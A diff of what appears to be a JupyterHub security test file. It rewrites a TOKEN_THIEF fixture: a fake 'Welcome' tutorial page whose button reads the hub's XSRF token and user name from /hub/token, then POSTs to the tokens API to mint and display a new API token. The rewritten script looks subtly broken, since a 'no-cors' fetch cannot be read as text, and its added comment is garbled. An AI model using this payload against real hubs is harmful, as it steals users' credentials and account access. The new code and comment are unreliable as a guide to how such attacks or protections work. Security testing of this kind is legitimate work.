@@ -23,17 +23,17 @@ VERIFIER = "v" * 64
 TOKEN_THIEF = """<!doctype html><title>Welcome</title>
 <button>Start the tutorial</button><output></output>
 <script>
-document.querySelector("button").onclick = () => {
-  const popup = window.open("/hub/token");
-  popup.addEventListener("load", async () => {
-    const {xsrf_token, user} = popup.jhdata;
-    const answer = await fetch(`/hub/api/users/${user}/tokens`, {
-      method: "POST",
-      body: "{}",
-      headers: {"Content-Type": "application/json", "X-XSRFToken": xsrf_token},
-    });
-    document.querySelector("output").value = (await answer.json()).token;
+document.querySelector("button").onclick = async () => {
+  // what is loaded as a picture is needs no word against forgery, and may be read here
+  const page = await (await fetch("/hub/token", {mode: "no-cors"})).text();
+  const word = page.match(/xsrf_token: "([^"]+)"/)[1];
+  const user = page.match(/user: "([^"]+)"/)[1];
+  const answer = await fetch(`/hub/api/users/${user}/tokens`, {
+    method: "POST",
+    body: "{}",
+    headers: {"Content-Type": "application/json", "X-XSRFToken": word},
   });
+  document.querySelector("output").value = (await answer.json()).token;
 };
 </script>"""
 
